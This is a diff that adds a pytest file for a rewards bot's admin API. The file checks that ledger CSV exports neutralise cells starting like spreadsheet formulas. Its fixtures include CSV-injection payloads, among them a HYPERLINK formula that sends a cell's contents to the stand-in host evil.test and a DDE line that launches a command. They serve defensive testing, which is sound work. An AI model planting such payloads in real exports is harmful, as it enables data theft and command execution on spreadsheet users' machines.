@@ -1,0 +1,90 @@
+"""Bad input on the admin API and the webhook (issue 11's probes): each gets a clear 4xx, nothing is stored.
+
+CSV cells that a spreadsheet would run as a formula are neutralised; JSON nested too deep, numeric query
+parameters that are not plain ASCII digits, dates outside a sane window, unknown PATCH fields and a malformed
+Authorization header are refused with the contract's JSON error (the webhook: a plain 400) before any write.
+"""
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import datetime
+from urllib.parse import quote
+
+import pytest
+
+from bot.web.api.exports import cell
+from linesim.platform import new_user_id
+from rewards import keys as rkeys
+from tests.support.harness import ADMIN, Bot
+from tests.test_admin_api import buy, follow, points_of
+
+SOME = "U" + "c" * 32
+
+
+def iso(moment: datetime) -> str:
+    return moment.isoformat()
+
+
+PLUMBING = re.compile(rb"^shokai:(events:\{p\d+\}|workers)$|lease")  # there from start-up, whatever is asked
+
+
+async def stored(bot: Bot) -> list[bytes]:
+    """Every key a request could have written (the worker's own streams, leases and heartbeats left out)."""
+    return sorted([k async for k in bot.services.redis.scan_iter(match=f"{rkeys.PREFIX}:*")
+                   if not PLUMBING.search(k)])
+
+
+# ---- CSV exports: no live formulas -----------------------------------------------------------
+FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1,"click")', "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1:A2)",
+            "\tTAB", "\rCR"]
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    *[(f, "'" + f) for f in FORMULAS], ("-50", "'-50"), ("plain", "plain"), ("a=b", "a=b"), ("", ""),
+    ("'=already", "'=already"), (-50, -50), (0, 0), (None, None)])
+def test_a_cell_is_neutralised_only_when_it_is_text_that_starts_like_a_formula(value: object,
+                                                                              written: object) -> None:
+    assert cell(value) == written
+
+
+async def csv_text(bot: Bot, path: str) -> str:
+    async with bot.http.get(bot.url + path, headers={"Authorization": f"Bearer {ADMIN}"}) as r:
+        assert r.status == 200
+        return (await r.read()).decode()
+
+
+@pytest.mark.parametrize("formula", FORMULAS[:4], ids=["equals", "plus", "minus", "at"])
+async def test_a_reason_that_is_a_formula_is_exported_as_text(bot: Bot, formula: str) -> None:
+    # (a reason is stripped, so it never starts with a tab or CR: cell() is shown to handle those above)
+    uid = new_user_id()
+    await follow(bot, uid)
+    for points, reason in ((1, formula), (-1, "x" + formula)):
+        status, answer = await bot.admin("POST", f"/api/v1/members/{uid}/adjustments",
+                                         {"points": points, "reason": reason})
+        assert status == 200, answer
+    rows = list(csv.DictReader(io.StringIO(await csv_text(bot, "/api/v1/exports/ledger.csv"))))
+    notes = [r["note"] for r in rows if r["user_id"] == uid]
+    assert "'" + formula in notes and formula not in notes
+    assert "x" + formula in notes  # a cell that does not start like a formula is left as it is
+
+
+async def test_an_order_id_that_is_a_formula_is_exported_as_text_and_numbers_stay_numbers(bot: Bot) -> None:
+    uid = new_user_id()
+    order = '=HYPERLINK("evil.test","open")'
+    await buy(bot, uid, order, 5000)
+    status, answer = await bot.admin("POST", f"/api/v1/conversions/{quote(order, safe='')}/refund")
+    assert status == 200 and answer["refunded"], answer  # type: ignore[index]
+    await bot.admin("POST", f"/api/v1/members/{uid}/adjustments", {"points": -7, "reason": "-7 by hand"})
+    rows = [r for r in csv.DictReader(io.StringIO(await csv_text(bot, "/api/v1/exports/ledger.csv")))
+            if r["user_id"] == uid]
+    for row in rows:
+        for name, value in row.items():
+            assert value[:1] not in ("=", "+", "@", "\t", "\r"), (name, value)
+            if value.startswith("-"):
+                assert name in ("delta", "balance"), (name, value)  # our own numbers, written as numbers
+    assert "'" + order in {r["note"] for r in rows}
+    assert "'-7 by hand" in {r["note"] for r in rows}
+    assert [int(r["delta"]) for r in rows][-1] == -7
+    assert sum(int(r["delta"]) for r in rows) == await points_of(bot, uid)
